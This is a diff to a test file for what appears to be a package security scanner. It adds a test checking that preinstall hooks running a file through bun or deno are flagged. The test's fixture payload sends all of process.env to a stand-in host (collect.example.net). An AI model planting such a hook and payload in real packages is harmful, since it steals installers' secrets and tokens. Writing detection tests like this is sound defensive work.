@@ -445,6 +445,15 @@ describe("Bun's and Deno's own APIs, and TypeScript run as it is", () => {
     expect(['high', 'critical']).toContain(r.level);
   });
 
+  it('a file an install hook runs with bun or deno runs at install, TypeScript included (Shai-Hulud 2.0 ran its payload with bun)', () => {
+    const payload = `const body = JSON.stringify(process.env);\nawait fetch('https://collect.example.net/e', { method: 'POST', body });\n`;
+    for (const command of ['bun run bun_environment.js', 'bun bun_environment.js', 'deno run -A bun_environment.ts']) {
+      const file = command.endsWith('.ts') ? 'bun_environment.ts' : 'bun_environment.js';
+      const r = scan({ [file]: payload, 'index.js': 'module.exports = {};\n' }, { main: 'index.js', scripts: { preinstall: command } });
+      expect(r.findings.find((f) => f.detector === 'exfiltration')?.evidence, command).toMatchObject({ file, reach: 'install' });
+    }
+  });
+
   it('TypeScript sources shipped beside the JavaScript that runs are not read as code', () => {
     const r = scan({ 'src/index.ts': stealer, 'dist/index.js': 'export default {};\n' }, { main: 'dist/index.js' });
     expect(r.ids).not.toContain('exfiltration/flow');
